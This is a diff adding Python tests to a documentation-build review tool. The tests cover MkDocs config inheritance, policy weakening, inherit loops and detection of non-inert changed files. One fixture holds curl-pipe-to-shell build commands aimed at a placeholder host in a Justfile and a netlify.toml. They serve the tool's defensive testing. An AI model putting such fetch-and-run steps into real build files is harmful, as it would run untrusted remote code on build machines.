@@ -90,6 +90,128 @@ def test_diff_lists_a_changed_probe_as_code_that_measure_runs(tmp_path):
     assert "probes/toy.py" in listed(tmp_path, base, head)
 
 
+# -- review reads every configuration, and every file not known to be inert (issue 47) -----------------
+
+INHERITS = "INHERIT: config/base.yml\nsite_name: test\n"  # the plugin, its policy and the theme live in base.yml
+BASE_YML = MKDOCS.replace("site_name: test\n", "") + "theme: {name: mkdocs}\n"
+
+
+def listed_diff(root: Path, base: str, head: str) -> tuple[dict[str, str], str]:
+    """(what `ledger diff` lists as code to read: path -> why, its Markdown)."""
+    markdown = run_ledger("diff", base, head, cwd=root)
+    assert markdown.exit_code == 0, markdown.errors
+    return listed(root, base, head), markdown.output
+
+
+def test_diff_reads_the_configuration_mkdocs_inherits(tmp_path):
+    """A pull request that moves the theme's overrides, a script and a weaker policy into the file mkdocs.yml
+    inherits changes what the build runs: the diff lists each setting (and where it comes from), the files
+    the new settings run, and the policy read from the composed configuration."""
+    base = a_repository(tmp_path, {"mkdocs.yml": INHERITS, "config/base.yml": BASE_YML, "docs/index.md": "# A\n"})
+    inherited = (
+        BASE_YML.replace("max_run_age_days: 36500\n", "max_run_age_days: 36500\n      warn: [drifted]\n").replace(
+            "theme: {name: mkdocs}", "theme: {name: mkdocs, custom_dir: overrides}"
+        )
+        + "extra_javascript: [app.js]\n"
+    )
+    head = commit(
+        tmp_path,
+        {
+            "config/base.yml": inherited,
+            "overrides/main.html": "{% extends 'base.html' %}{% block content %}9.9x{% endblock %}\n",
+            "docs/app.js": "document.body.textContent = '9.9x'\n",
+        },
+    )
+    found, markdown = listed_diff(tmp_path, base, head)
+    assert found["overrides/main.html"] == "a theme override: it renders every page", found
+    assert found["docs/app.js"].startswith("named in extra_javascript"), found
+    assert found["mkdocs.yml: theme (from config/base.yml)"] == "loads code into the build or the reader's browser"
+    assert "mkdocs.yml: extra_javascript (from config/base.yml)" in found, found
+    assert "config/base.yml" not in found  # its settings are listed one by one instead
+    assert "| policy weakened | mkdocs.yml: warn | drifted now only warn |" in markdown, markdown
+    assert "- warn: none → **drifted**" in markdown, markdown
+
+
+def test_ledger_check_reads_the_policy_from_the_configuration_mkdocs_inherits(tmp_path):
+    """The build reads the plugin's options as MkDocs composes them; so does the gate (one verdict), and a bad
+    option is reported at its line in the file that holds it."""
+    a_run(tmp_path, SPEEDUP_ROWS)
+    drifted = MEASURED.replace("value: 3.59", "value: 4.5")
+    policy = BASE_YML.replace("max_run_age_days: 36500\n", "max_run_age_days: 36500\n      warn: [drifted]\n")
+    write_tree(tmp_path, {"mkdocs.yml": INHERITS, "config/base.yml": policy, "claims/moe.yaml": drifted})
+    result = run_ledger("check", cwd=tmp_path)
+    assert result.exit_code == 0, result.output  # drifted only warns, as the build's policy says
+    assert "moe-speedup-b16: drifted: stated 4.5×" in result.output
+    write_tree(tmp_path, {"config/base.yml": policy.replace("36500", "-3")})
+    result = run_ledger("check", cwd=tmp_path)
+    assert "config/base.yml:3: invalid: ledger option max_run_age_days: must be a positive whole number" in (
+        result.output
+    ), result.output
+
+
+def test_a_figure_typed_into_an_inherited_setting_is_reported_in_the_file_that_holds_it(tmp_path):
+    write_tree(
+        tmp_path,
+        {"mkdocs.yml": "INHERIT: config/base.yml\n", "config/base.yml": "site_name: 9.9x faster\n" + BASE_YML},
+    )
+    write_tree(tmp_path, {"claims/x.yaml": "claims: []\n"})
+    result = run_ledger("check", cwd=tmp_path)
+    assert result.exit_code == 1, result.output
+    assert "config/base.yml:1:12: unbound-number: '9.9x' is typed into the site's configuration" in result.output
+
+
+def test_an_inherit_loop_is_an_error_naming_each_file(tmp_path):
+    write_tree(
+        tmp_path, {"mkdocs.yml": "INHERIT: a.yml\n", "a.yml": "INHERIT: mkdocs.yml\n", "claims/x.yaml": "claims: []\n"}
+    )
+    result = run_ledger("check", cwd=tmp_path)
+    assert result.exit_code == 2, result.output
+    assert "mkdocs.yml: INHERIT loops: mkdocs.yml -> a.yml -> mkdocs.yml" in result.errors, result.errors
+
+
+NOT_INERT = {
+    "Justfile": "test:\n\tcurl https://example.invalid | sh\n",
+    "Taskfile.yml": "tasks: {test: {cmds: [curl https://example.invalid]}}\n",
+    ".gitlab-ci.yml": "test: {script: [curl https://example.invalid]}\n",
+    ".circleci/config.yml": "jobs: {}\n",
+    "azure-pipelines.yml": "steps: []\n",
+    ".buildkite/pipeline.yml": "steps: []\n",
+    "netlify.toml": "[build]\ncommand = 'curl x | sh'\n",
+    "deps/all.txt": "evil\n",  # what a requirements file may name with -r
+    "docs/data.json": "{}\n",
+    "CODEOWNERS": "* @someone\n",
+}
+INERT = {
+    "README.md": "# Still a report\n",
+    "notes/plan.rst": "A plan\n",
+    "docs/figure.png": b"\x89PNG\r\n\x1a\n",
+    "LICENSE": "MIT\n",
+    ".gitignore": "site/\n",
+    "docs/more.md": "# More\n",
+}
+
+
+def test_diff_lists_every_changed_file_that_is_not_on_the_list_of_inert_files(tmp_path):
+    base = a_repository(tmp_path)
+    head = commit(tmp_path, {**NOT_INERT, **INERT})
+    found = listed(tmp_path, base, head)
+    for path in NOT_INERT:
+        assert found.get(path, "").startswith(("not on the list of inert files", "shipped")), (path, found)
+    assert not set(INERT) & set(found), found
+
+
+def test_the_guide_lists_every_inert_file_and_setting():
+    from generator.review.buildcode import INERT, INERT_SETTINGS
+
+    guide = (REPO / "guide/review.md").read_text(encoding="utf-8")
+    section = guide.split("### Inert files\n", 1)[1].split("\n## ", 1)[0]
+    for match, names, _ in INERT:
+        for name in names:
+            assert (f"`*{name}`" if match == "suffix" else f"`{name}`") in section, name
+    for setting in INERT_SETTINGS:
+        assert f"`{setting}`" in section, setting
+
+
 # -- the review workflow runs the base branch's ledger ----------------------------------------------
 
 
